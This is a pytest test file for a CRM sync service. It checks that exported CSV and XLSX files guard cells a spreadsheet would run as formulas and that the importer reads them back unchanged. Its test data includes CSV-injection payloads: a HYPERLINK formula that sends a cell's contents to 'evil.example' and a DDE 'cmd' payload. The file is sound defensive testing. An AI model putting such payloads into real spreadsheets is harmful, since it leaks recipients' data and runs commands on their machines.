"""CSV injection: every spreadsheet the service writes for people guards cells that a
spreadsheet program would run as a formula (OWASP: a leading single quote, and every CSV
cell quoted), and our own importer reads such a file back to the original values."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from crm_sync.import_records import PolicyRecord, RowError
from crm_sync.import_report import LookupEntry, write_error_file, write_lookup_files
from crm_sync.importer import prepare
from crm_sync.mail_compose import (
    InaccurateNumber,
    LapsedPolicy,
    compose_inaccurate_numbers,
    compose_lapsed,
)
from crm_sync.spreadsheets import SafeCsvWriter, append_rows, guard_cell, unguard_cell
from tests.test_import_support import HEADER, row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def _csv(path_or_text: Path | str) -> tuple[str, list[list[str]]]:
    text = (
        path_or_text.read_bytes().decode("utf-8-sig")
        if isinstance(path_or_text, Path)
        else path_or_text.lstrip("\ufeff")
    )
    return text, list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_gets_the_guard_quote_and_plain_values_do_not(value: str) -> None:
    assert guard_cell(value) == "'" + value
    assert unguard_cell("'" + value) == value
    for plain in ("王伟", "P000001", "0311-85551234", "'t Hooft", "", 3, None):
        assert guard_cell(plain) == plain
    assert unguard_cell("'t Hooft") == "'t Hooft"  # not a guard: left alone


def test_the_import_error_file_guards_formula_cells(tmp_path: Path) -> None:
    source = tmp_path / "l.csv"
    errors = [RowError(i + 2, "终保日期", v, "not a date") for i, v in enumerate(HOSTILE)]
    path = write_error_file(source, errors)
    assert path is not None
    text, rows = _csv(path)
    assert [r[2] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert "\"'=HYPERLINK(" in text  # quoted as well as guarded
    assert text.startswith('"row","column","value","reason"')  # the header quoted too


def test_the_phones_to_look_up_file_guards_names_and_numbers(tmp_path: Path) -> None:
    entries = [
        LookupEntry("1301", "P1", "冀A·12345", HOSTILE[0], "policyholder", "85551234", "no 区号"),
        LookupEntry("1301", "P2", "冀A·12346", "王伟", "insured", "+86 123", "too short"),
    ]
    (path,) = write_lookup_files(tmp_path / "l.csv", entries)
    _, rows = _csv(path)
    assert rows[1][3] == "'" + HOSTILE[0]
    assert rows[2][5] == "'+86 123"  # a number for people: the OWASP rule applies to it too
    assert rows[2][3] == "王伟"


def test_the_branch_mail_attachments_guard_names_and_numbers() -> None:
    inaccurate = compose_inaccurate_numbers(
        "石家庄分公司",
        "sjz@example.com",
        "d@x",
        date(2026, 12, 1),
        [InaccurateNumber("P1", HOSTILE[1], "+8613800000012", "third unanswered call", 3)],
        NOW,
    )
    lapsed = compose_lapsed(
        "石家庄分公司",
        "sjz@example.com",
        "d@x",
        date(2026, 12, 1),
        [LapsedPolicy("P2", HOSTILE[3], "+8613800000013", date(2026, 11, 27), True, "-专员")],
        NOW,
    )
    for message, guarded in ((inaccurate, [1, 2]), (lapsed, [1, 2, 5])):
        attachment = next(message.iter_attachments())
        _, rows = _csv(attachment.get_content())  # type: ignore[attr-defined]
        assert all(rows[1][i].startswith("'") for i in guarded), rows[1]
        assert not rows[1][0].startswith("'")


def test_a_guarded_csv_and_xlsx_read_back_by_the_importer_give_the_original_values(
    tmp_path: Path,
) -> None:
    rows = [row(f"P{i}", holder=name) for i, name in enumerate(HOSTILE[:4])]
    rows.append(row("P9", holder="'t Hooft", holder_phone="+8613812345678"))
    with (tmp_path / "l.csv").open("w", encoding="utf-8-sig", newline="") as fh:
        SafeCsvWriter(fh).writerows([HEADER, *rows])
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("续保清单")
    append_rows(ws, [HEADER, *rows])
    wb.save(tmp_path / "l.xlsx")
    sheet = load_workbook(tmp_path / "l.xlsx").active
    assert sheet is not None
    holder = sheet.cell(2, HEADER.index("投保人") + 1)
    assert holder.data_type == "s" and holder.value == "'" + HOSTILE[0]  # text, not a formula
    for name in ("l.csv", "l.xlsx"):
        records = [r for r in prepare(tmp_path / name) if isinstance(r, PolicyRecord)]
        assert [r.policyholder for r in records] == [*HOSTILE[:4], "'t Hooft"], name
        assert records[-1].policyholder_phones[0].e164 == "+8613812345678"
